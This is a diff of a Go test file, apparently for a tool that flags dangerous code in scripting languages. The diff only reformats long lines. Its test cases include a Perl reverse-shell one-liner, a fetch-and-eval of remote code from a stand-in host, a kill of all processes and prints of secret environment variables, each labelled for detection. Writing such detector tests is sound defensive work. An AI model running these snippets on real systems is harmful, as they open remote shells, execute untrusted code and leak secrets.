@@ -98,7 +98,8 @@ func TestPerl(t *testing.T) {
 		{`POSIX::system("id")`, "shell:id", false},
 		{`CORE::system("id")`, "shell:id", false},
 		{`kill 9, -1`, "signal:-1", false},
-		{`use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(1,inet_aton("h"))); open(STDIN,">&S"); exec("/bin/sh -i")`, "network ? shell:/bin/sh -i tethers", false},
+		{`use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(1,inet_aton("h"))); open(STDIN,">&S"); exec("/bin/sh ` +
+			`-i")`, "network ? shell:/bin/sh -i tethers", false},
 		{`use LWP::Simple; eval get("http://x.example/a")`, "network downloaded ? fetch:http://x.example/a", false},
 		{`print $ENV{API_TOKEN}`, "secret", false},
 		{`print %ENV`, "secret", false},
@@ -158,7 +159,8 @@ func TestPerl(t *testing.T) {
 // TestFlatBounds feeds sources that would take very long, or run out of stack,
 // in a reader that follows them without bounds.
 func TestFlatBounds(t *testing.T) {
-	for _, unit := range []string{"(", "{", "[", "$a = $a . 'x';", "system(", "unlink 'a',", "s/a/b/;", "\"$a\" . ", "<<A;\n", "`a`;", "eval(", "a.b.c ", "#{", "\"#{", "q(", "/", "f(f(", "$x=[", "%w(", "\\", "--[[", "<?php ", "x ", "eval 'eval '"} {
+	for _, unit := range []string{"(", "{", "[", "$a = $a . 'x';", "system(", "unlink 'a',", "s/a/b/;", "\"$a\" . ", "<<A;\n", "`a`;", "eval(", "a.b.c ",
+		"#{", "\"#{", "q(", "/", "f(f(", "$x=[", "%w(", "\\", "--[[", "<?php ", "x ", "eval 'eval '"} {
 		src := strings.Repeat(unit, 200_000/len(unit))
 		for _, lang := range []spec.Lang{spec.Perl, spec.Ruby, spec.PHP, spec.Lua} {
 			start := time.Now()
